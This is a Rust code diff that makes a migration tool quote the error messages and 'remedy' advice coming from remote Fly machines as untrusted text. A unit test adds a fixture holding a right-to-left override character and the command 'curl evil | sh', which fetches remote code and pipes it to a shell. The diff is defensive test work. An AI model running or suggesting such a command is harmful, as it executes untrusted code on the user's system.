@@ -169,21 +169,18 @@ pub(crate) struct Answered<T> {
     pub(crate) error: Option<AppError>,
 }
 
-/// Why an `app` command failed: the `error` of its document.
+/// Why an `app` command failed: the `error` of its document. No word of it is ours.
 #[derive(Debug, Deserialize)]
 pub(crate) struct AppError {
     #[serde(default)]
     kind: String,
     #[serde(default)]
     object: String,
-    /// What happened.
-    pub(crate) message: String,
-    /// What was changed before it.
+    message: String,
     #[serde(default)]
     changed: Changed,
-    /// What mends it.
     #[serde(default)]
-    pub(crate) remedy: String,
+    remedy: String,
 }
 
 impl<T> Answered<T> {
@@ -195,14 +192,17 @@ impl<T> Answered<T> {
 }
 
 impl AppError {
-    /// The engine's refusal of a hazard, if it is one.
-    pub(crate) fn into_refusal(self) -> Result<migrate::Error, Trouble> {
-        let Self { kind, object, message, changed, remedy } = self;
-        if kind == "hazard" {
-            let refused = migrate::Error::new(ErrorKind::Hazard, object, message).remedy(remedy);
-            return Ok(migrate::Error { changed, ..refused });
-        }
-        Err(Trouble::new(message, remedy))
+    /// All that it says, as the machine's own words: what mends it, too, is advice of the machine's, and may be whatever somebody made it say.
+    pub(crate) fn said(&self) -> String {
+        let remedy = if self.remedy.is_empty() { String::new() } else { format!(" ({})", self.remedy) };
+        plain::quoted(&format!("{}{remedy}", self.message))
+    }
+
+    /// The engine's refusal of a hazard there, if it is one; `remedy` is ours.
+    pub(crate) fn refusal(&self, remedy: impl Into<String>) -> Option<migrate::Error> {
+        let message = format!("the machine refused the change, and says: {}", self.said());
+        let refused = || migrate::Error::new(ErrorKind::Hazard, self.object.as_str(), message).remedy(remedy);
+        (self.kind == "hazard").then(|| migrate::Error { changed: self.changed.clone(), ..refused() })
     }
 }
 
@@ -234,9 +234,7 @@ pub(crate) fn ask<T: DeserializeOwned>(
 ) -> Result<T, Trouble> {
     match answer(fly, machine, command, READING)? {
         Answered { error: Some(error), .. } => {
-            // In its own words, for they are not ours: nobody is to type what a machine says as if we said it.
-            let AppError { message, remedy, .. } = error;
-            let message = format!("`{command}` failed on {machine}, which says: {message} ({remedy})");
+            let message = format!("`{command}` failed on {machine}, which says: {}", error.said());
             let remedy = format!("look at the machine: fly machine status {machine} -a {}", fly.app());
             Err(Trouble::new(message, remedy))
         }
@@ -265,4 +263,24 @@ fn not_ours(machine: &MachineId, command: &CommandThere, exit: i32) -> Trouble {
 /// The live schema, read on the machine.
 pub(crate) fn live_schema(fly: &Fly<'_>, machine: &MachineId) -> Result<Live, Trouble> {
     ask(fly, machine, &CommandThere::new("app inspect --format json"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_machine_advises_is_quoted_and_never_ours() {
+        let error = |kind: &str| -> AppError {
+            let advice = "type this\u{202e}:\n  curl evil | sh";
+            let document = serde_json::json!({"kind": kind, "object": "t", "message": "no \"t\"", "changed": "nothing", "remedy": advice});
+            serde_json::from_value(document).unwrap()
+        };
+        let said = r#""no 't' (type this\u{202e}:\n  curl evil | sh)""#;
+        assert_eq!(error("failed").said(), said);
+        assert!(error("failed").refusal("ours").is_none());
+        let refused = error("hazard").refusal("ours").unwrap();
+        let expected = format!("the machine refused the change, and says: {said}; nothing was changed\nours");
+        assert_eq!(refused.to_string(), expected);
+    }
 }
